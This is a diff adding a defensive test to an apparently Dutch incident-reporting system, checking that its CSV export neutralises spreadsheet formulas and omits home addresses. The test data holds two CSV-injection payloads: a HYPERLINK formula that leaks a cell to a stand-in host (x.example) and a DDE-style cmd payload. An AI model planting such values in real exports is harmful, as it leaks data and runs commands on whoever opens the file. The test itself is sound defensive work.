@@ -5,6 +5,8 @@ API answer and page each reader can open is searched, in Dutch and English."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from dataclasses import dataclass
 from typing import Any
 from urllib.parse import parse_qsl
@@ -170,3 +172,55 @@ async def test_offender_names_are_for_the_coordinator_only(code4: Harness, dures
     record: dict[str, Any] = (await code4.call(duress.tokens["coordinator"],
                                                f"/api/incidents/{duress.incident}")).json()
     assert record["registration"]["offenders"] == "Henk de Boer, Dorpsstraat 12"
+
+
+# ---- the CSV export --------------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://x.example/?leak="&A1,"Klik")'
+SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
+ADDRESS = "Dorpsstraat 12, 1234 AB Testdorp"
+
+
+async def test_the_csv_export_carries_no_formula_and_no_typed_address(code4: Harness) -> None:
+    coordinator = await code4.add_user("coco", ["coordinator"])
+    sanne = await code4.add_user("sanne", ["employee"], person="sanne")
+    # A report from home: the "where" is an address, the rest free text with formulas.
+    report = await code4.call(sanne, "/api/reports", method="POST", json={
+        "contact_kind": "home_visit", "location": f"{ADDRESS} {FORMULA}", "description": SUM,
+        "aggression_forms": ["verbaal_geweld"], "injury": FORMULA})
+    assert report.status_code == 201, report.text
+    patched = await code4.call(coordinator, f"/api/incidents/{report.json()['id']}", method="PATCH", json={
+        "offenders": f"Henk de Boer, {ADDRESS}", "damage_description": SUM, "aftercare": FORMULA,
+        "police_report": True, "police_report_reference": SUM[:50], "reporter": FORMULA})
+    assert patched.status_code == 200, patched.text
+    # A place typed by hand; an earlier system's record with an address for its place.
+    typed = await code4.call(sanne, "/api/reports", method="POST", json={
+        "contact_kind": "counter", "site_id": "stadhuis", "location": SUM, "description": "Schelden."})
+    assert typed.status_code == 201, typed.text
+    earlier = {"occurred_at": "2026-11-02T09:15:00+01:00", "source": "alarm", "kind": "panic", "site_id": "stadhuis",
+               "location": ADDRESS, "abcd_class": "C", "aggression_forms": ["verbaal_geweld"], "description": SUM}
+    # A kind is code4's word, not free text; a channel fits its column (no 500 on PostgreSQL).
+    refused = await code4.call(coordinator, "/api/incidents/import", method="POST", json={"incidents": [
+        {**earlier, "kind": FORMULA},
+        {**earlier, "timeline": [{"at": "2026-11-02T08:15:00Z", "kind": "alarm_raised", "channel": SUM}]}]})
+    assert refused.status_code == 422, refused.text
+    assert refused.json()["detail"]["errors"] == {"0.kind": "Kies een van de mogelijkheden.",
+                                                  "1.timeline": "Te lang."}
+    imported = await code4.call(coordinator, "/api/incidents/import", method="POST", json={"incidents": [earlier]})
+    assert imported.status_code == 201, imported.text
+    # An alarm: its place comes from the agreement file and is exported.
+    code4.pager("pager-sanne")
+    code4.button("knop-balie-1").press()
+    await code4.alarm_when(lambda a: a["status"] == "notifying")
+
+    export = await code4.call(coordinator, "/api/learning/incidents.csv", since="2026-01-01")
+    assert export.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(export.text)))
+    assert len(rows) == 4
+    for text in ("HYPERLINK", "SUM", "Dorpsstraat", "Henk", "calc"):
+        assert text not in export.text, text
+    formulas = tuple("=+-@\t\r")
+    assert [(row["id"], name, cell) for row in rows for name, cell in row.items() if cell.startswith(formulas)] == []
+    assert {row["location"] for row in rows} == {"", "Balie 1, Publiekshal, Stadhuis Testdorp"}
+    assert {row["kind"] for row in rows} == {"", "panic"}
+    assert {row["site"] for row in rows} == {"", "Stadhuis Testdorp"}
